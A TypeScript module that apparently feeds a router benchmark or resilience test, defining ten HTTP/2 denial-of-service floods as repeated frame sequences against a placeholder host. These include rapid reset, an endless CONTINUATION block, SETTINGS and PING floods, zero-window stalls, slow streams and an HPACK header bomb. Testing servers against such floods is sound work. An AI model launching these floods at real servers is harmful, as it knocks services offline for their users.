// What a client of HTTP/2 can do to a router, each as the frames that it sends again and again (RFC 9113 section 10.5).

import {
  CONTINUATION,
  DATA,
  END,
  END_HEADERS,
  HEADERS,
  PING,
  SETTINGS,
  WINDOW_UPDATE,
  fieldBlock,
  frame,
  reset,
  setting,
  uint32,
} from "./frames.ts";

/** One way to attack. */
export interface FloodKind {
  /** What it is to bring about, for the page. */
  readonly about: string;
  /** Sent once, behind the preface: a payload of SETTINGS, and frames. */
  readonly settings?: Buffer;
  readonly first?: readonly Buffer[];
  /** The frames of one step; `stream` is a number that no step before had. */
  step(stream: number): readonly Buffer[];
  /** Between two steps; undefined: as fast as they are taken. */
  readonly everyMs?: number;
  /** Steps on one connection; undefined: without end. */
  readonly steps?: number;
}

const CANCEL = 8;
const PRIORITY = 2;
const HEADER_TABLE_SIZE = 1;
const INITIAL_WINDOW_SIZE = 4;
/** As many as the router lets one connection have at once. */
const STREAMS = 100;

/** The host of whatever is asked for, and the path of what it is asked of. */
const HOST = "bench.example";
const PATH = "/attacked";

const request = (method: string, path: string, more: readonly (readonly [string, string])[] = []): Buffer =>
  fieldBlock([[":method", method], [":scheme", "https"], [":authority", HOST], [":path", path], ...more]);
const get = request("GET", PATH);
const post = request("POST", PATH);

/** A field of 4,000 bytes that goes into the table of HPACK, and one byte for each time that it is named again. */
const kept = Buffer.concat([Buffer.from([0x40, 1, 0x61, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4_000, 0x62)]);
const bomb = Buffer.concat([get, kept, Buffer.alloc(4_000, 0x80 | 62)]);

export const FLOODS: Readonly<Record<string, FloodKind>> = {
  "rapid reset": {
    about: "requests that are taken back at once",
    step: (stream) => [frame(HEADERS, END | END_HEADERS, stream, get), reset(stream, CANCEL)],
  },
  CONTINUATION: {
    about: "a field block without end",
    first: [frame(HEADERS, END, 1, get)],
    step: () => [frame(CONTINUATION, 0, 1, fieldBlock([["x-filling", "x".repeat(100)]]))],
  },
  SETTINGS: {
    about: "settings that change all the time, each to be acknowledged",
    step: (stream) => [frame(SETTINGS, 0, 0, setting(HEADER_TABLE_SIZE, stream % 2 === 0 ? 4_096 : 0))],
  },
  PING: { about: "pings, each to be answered", step: () => [frame(PING, 0, 0, Buffer.alloc(8))] },
  "zero windows": {
    about: "large answers that are asked for and not taken",
    settings: setting(INITIAL_WINDOW_SIZE, 0),
    step: (stream) => [frame(HEADERS, END | END_HEADERS, stream, request("GET", `${PATH}/large`))],
    steps: STREAMS,
  },
  "slow streams": {
    about: "bodies of a byte every two seconds",
    first: Array.from({ length: STREAMS }, (_, at) => frame(HEADERS, END_HEADERS, 2 * at + 1, post)),
    step: () => Array.from({ length: STREAMS }, (_, at) => frame(DATA, 0, 2 * at + 1, "x")),
    everyMs: 2_000,
  },
  "header bomb": {
    about: "heads of 8 KB that are 16 MB when they are read",
    step: (stream) => [frame(HEADERS, END | END_HEADERS, stream, bomb)],
  },
  "empty DATA": {
    about: "bodies of frames without a byte",
    first: [frame(HEADERS, END_HEADERS, 1, post)],
    step: () => [frame(DATA, 0, 1)],
  },
  PRIORITY: {
    about: "priorities, which nobody asks for any more",
    step: (stream) => [frame(PRIORITY, 0, stream, Buffer.concat([uint32(0), Buffer.from([16])]))],
  },
  WINDOW_UPDATE: {
    about: "windows that grow by a byte",
    first: [frame(HEADERS, END_HEADERS, 1, post)],
    step: () => [frame(WINDOW_UPDATE, 0, 1, uint32(1))],
  },
};
